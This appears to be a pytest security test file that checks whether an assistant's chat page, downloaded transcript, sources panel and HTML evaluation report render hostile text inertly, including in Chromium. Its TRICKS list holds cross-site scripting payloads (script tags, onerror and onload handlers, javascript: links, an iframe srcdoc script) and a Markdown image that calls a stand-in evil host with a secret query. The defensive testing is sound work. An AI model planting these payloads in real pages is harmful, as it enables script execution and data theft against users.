"""Output escaping: hostile titles, quotes, questions and answers stay inert text everywhere.

The same catalogue of tricks (a ``<script>``, event handlers, ``javascript:`` links, Markdown
images, autolinks, reference definitions, entities, a pre-escaped tag) goes through

* the page's Markdown escaping, rendered by a CommonMark renderer with HTML enabled: each trick
  renders as itself;
* the downloaded conversation (``assistant.transcript``), rendered the same way: no tag, image
  or link comes alive;
* the sources panel's HTML and the HTML evaluation report, parsed: no element or attribute from
  the text;
* in Chromium: the page with a hostile question and sources whose manifest entry is hostile, and
  the evaluation report opened from disk with its Content-Security-Policy bypassed (so escaping,
  not the policy, is what is tested): no planted script runs, the text shows literally.
"""

from __future__ import annotations

import html
import re
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from assistant.schemas import Answer, AnswerSentence, Citation
from assistant.transcript import Exchange, conversation_markdown, literal
from eval.report import write_html, write_markdown
from tests.security.conftest import EVIL_HOST, INJECTED_FLAG, AuditedPage, assert_page_inert
from ui import render

F = INJECTED_FLAG
TRICKS = [
    f"<script>window.{F}='script'</script>",
    f"<img src=x onerror=\"window.{F}='img'\">",
    f"[click me](javascript:window.{F}='link')",
    f"![pixel](https://{EVIL_HOST}/pixel.png?q=secret)",
    f"<https://{EVIL_HOST}/autolink>",
    f"<details open ontoggle=\"window.{F}='toggle'\">x</details>",
    f"<svg onload=\"window.{F}='svg'\"></svg>",
    f'<a href="javascript:window.{F}=1">a</a>',
    f"[ref]: https://{EVIL_HOST}/definition",
    "&lt;script&gt; &#60;b&#62;",
    f"\\<img src=x onerror=\"window.{F}='escaped'\">",
    "<!-- hidden --> done",
    f"<iframe srcdoc=\"<script>parent.{F}='frame'</script>\"></iframe>",
]
LIVE_TAGS = {"script", "img", "a", "svg", "details", "iframe", "object", "embed", "style", "link"}


class _Elements(HTMLParser):
    """Every start tag with its attributes."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def elements(markup: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = _Elements()
    parser.feed(markup)
    return parser.tags


def commonmark(text: str) -> str:
    """``text`` rendered as a Markdown viewer would (CommonMark, raw HTML allowed)."""
    markdown_it = pytest.importorskip("markdown_it")
    return str(markdown_it.MarkdownIt("commonmark", {"html": True}).render(text))


def assert_no_live_elements(markup: str, allowed: set[str], where: str) -> None:
    for tag, attrs in elements(markup):
        assert tag not in LIVE_TAGS or tag in allowed, f"{where}: a live <{tag} {attrs}>"
        handlers = [a for a in attrs if a.startswith("on")]
        assert not handlers, f"{where}: handler {handlers} on <{tag}>"
        for name in ("href", "src", "srcdoc", "action"):
            value = attrs.get(name) or ""
            assert "javascript:" not in value and EVIL_HOST not in value, f"{where}: {name}={value}"


# --- the page's Markdown and HTML --------------------------------------------------------------


@pytest.mark.parametrize("trick", TRICKS)
def test_the_chat_escaping_renders_every_trick_as_itself(trick):
    rendered = commonmark(render.escape_markdown(trick))
    assert rendered.startswith("<p>") and rendered.endswith("</p>\n")
    assert html.unescape(rendered[3:-5]) == trick
    assert elements(rendered) == [("p", {})]


@pytest.mark.parametrize("trick", TRICKS)
def test_the_transcript_escaping_renders_every_trick_as_itself(trick):
    rendered = commonmark(literal(trick))
    assert html.unescape(re.sub(r"</?p>\n?", "", rendered)) == trick
    assert elements(rendered) == [("p", {})]


def _hostile_citation(n: int) -> Citation:
    text = f"Plans are due in May. {' '.join(TRICKS)} Boards sign them off."
    return Citation(
        n=n,
        doc_id=f"doc-{n}<b>",
        title=TRICKS[0],
        section=TRICKS[1],
        page=3,
        quote=TRICKS[2] + " " + TRICKS[3],
        quotes=[TRICKS[2]],
        spans=[(0, 21), (22, len(text) - 22)],
        chunk_id=f"c{n}",
        chunk_text=text,
        source_url=f"javascript:window.{F}='source'",
        publisher=TRICKS[5],
    )


def _hostile_answer(**kw: Any) -> Answer:
    text = f"Plans are due in May [1]. {' '.join(TRICKS)} [2]"
    citations = [_hostile_citation(1), _hostile_citation(2)]
    return Answer(
        question=TRICKS[1],
        answer=text,
        sentences=[AnswerSentence(text=text, citations=[1, 2])],
        citations=citations,
        standalone_question=TRICKS[0] + TRICKS[6],
        **kw,
    )


@pytest.mark.parametrize("mode", ["extractive", "llm"])
def test_hostile_titles_quotes_and_answers_are_inert_in_the_page_markup(mode):
    answer = _hostile_answer(mode=mode, refused=mode == "extractive")
    chat = commonmark(render.answer_markdown(answer, turn=1))
    assert_no_live_elements(chat, allowed={"a"}, where="chat")
    links = [attrs.get("href") for tag, attrs in elements(chat) if tag == "a"]
    assert links == ["#cite-1-1", "#cite-1-2"]  # the markers, and nothing from the text
    panel = render.sources_html([Exchange(TRICKS[4], answer=answer)])
    assert_no_live_elements(panel, allowed={"details"}, where="panel")  # the page's own
    assert {a.get("class") for t, a in elements(panel) if t == "details"} <= {
        "citation",
        "retrieved-all",
    }
    for shown in (chat, panel):
        assert f"window.{F}='script'" in html.unescape(shown)  # shown, as text


def test_the_downloaded_conversation_has_no_live_markup_when_rendered():
    exchanges = [
        Exchange(" ".join(TRICKS), answer=_hostile_answer(mode="llm")),
        Exchange(TRICKS[0], error=TRICKS[1]),
    ]
    markdown = conversation_markdown(exchanges)
    assert "[1] " in markdown and "\\[1\\]" not in markdown.split("### Sources")[0]
    assert_no_live_elements(commonmark(markdown), allowed=set(), where="transcript")


# --- the evaluation report ---------------------------------------------------------------------


def hostile_report() -> dict[str, Any]:
    metrics = {"questions": 1.0, "recall_at_k": 0.5, "citation_recall": 1.0}
    question = {
        "id": TRICKS[7],
        "question": TRICKS[1],
        "answer": " ".join(TRICKS),
        "answerable": True,
        "refused": False,
        "failed": True,
        "recall_at_k": 0.0,
        "citation_recall": 0.0,
        "latency_ms": 12.0,
        "retrieved": [{"rank": 1, "doc_id": TRICKS[4], "section": TRICKS[5]}],
    }
    return {
        "dataset": TRICKS[0],
        "mode": TRICKS[6],
        "corpus": [TRICKS[3]],
        "k": TRICKS[12],
        "summary": {"all": {"project": metrics, TRICKS[2]: metrics}},
        "questions": {"project": [question], TRICKS[2]: [question]},
        "gate": [
            {"metric": TRICKS[1], "value": 0.1, "op": ">=", "threshold": TRICKS[0], "ok": False}
        ],
    }


def test_the_html_report_escapes_every_field(tmp_path):
    page = write_html(hostile_report(), tmp_path).read_text(encoding="utf-8")
    tags = elements(page)
    assert [t for t, _ in tags if t == "script"] == []
    assert {(attrs.get("src") or "")[:15] for t, attrs in tags if t == "img"} == {"data:image/png;"}
    assert_no_live_elements(page, allowed={"img", "style"}, where="report.html")
    assert [t for t, _ in tags].count("style") == 1  # the report's own
    markdown = write_markdown(hostile_report(), tmp_path).read_text(encoding="utf-8")
    failing = markdown.split("## Failing questions", 1)[1]
    assert_no_live_elements(commonmark(failing), allowed=set(), where="report.md")


# --- in Chromium --------------------------------------------------------------------------------


@pytest.mark.browser
@pytest.mark.integration
def test_in_chromium_the_eval_report_runs_nothing_and_shows_the_text(browser, tmp_path):
    report = write_html(hostile_report(), tmp_path)
    # With the report's Content-Security-Policy bypassed, only escaping stands in the way.
    context = browser.new_context(bypass_csp=True)
    try:
        page = context.new_page()
        requests: list[str] = []
        page.on("request", lambda r: requests.append(r.url))
        page.goto(report.as_uri())
        page.wait_for_load_state("load")
        page.wait_for_timeout(300)  # let any handler that was created fire
        assert page.evaluate(f"window.{F}") is None
        shown = page.locator("body").inner_text()
        for trick in (TRICKS[0], TRICKS[1], TRICKS[2], TRICKS[7]):
            assert trick in shown, f"{trick!r} is not shown literally"
        live = page.evaluate(
            "() => [...document.querySelectorAll('script, iframe, svg, details, a, [onerror],"
            " [onload], [ontoggle]')].map(e => e.outerHTML.slice(0, 80))"
        )
        assert live == []
        assert all(u.startswith(("file:", "data:")) for u in requests), requests
    finally:
        context.close()


@pytest.mark.browser
@pytest.mark.integration
def test_in_chromium_hostile_questions_titles_and_quotes_show_as_text(
    browser, planted_ui, artifacts: Path
):
    page = AuditedPage(browser, planted_ui)
    try:
        question = "When does the discharge lounge open? " + " ".join(TRICKS[:5])
        page.ask(question)
        user = page.page.locator("#chat [data-testid='user']").last.inner_text()
        for trick in TRICKS[:5]:
            assert trick in user, f"{trick!r} not shown literally in {user!r}"
        panel = page.page.locator("#sources-panel").inner_text()
        assert f"<script>window.{F}='script'</script>" in panel  # the quoted passage
        assert "Discharge lounge <img src=x onerror=" in panel  # the file's own title
        assert_page_inert(page.audit(), "hostile question")

        page.ask("Who chairs the weekend discharge huddle?")  # the tampered manifest entry
        panel_html = page.page.locator("#sources-panel").inner_html()
        panel = page.page.locator("#sources-panel").inner_text()
        assert f"Ward notes <script>window.{F}='manifest-title'</script>" in panel
        assert f"window.{F}='publisher'" in panel
        assert "javascript:" not in panel_html.replace(f"javascript:window.{F}", "")
        assert "href=" not in panel_html  # the javascript: address is not linked
        assert_page_inert(page.audit(), "hostile manifest")
        page.page.screenshot(path=str(artifacts / "security-escaping.png"), full_page=True)
    finally:
        page.close()
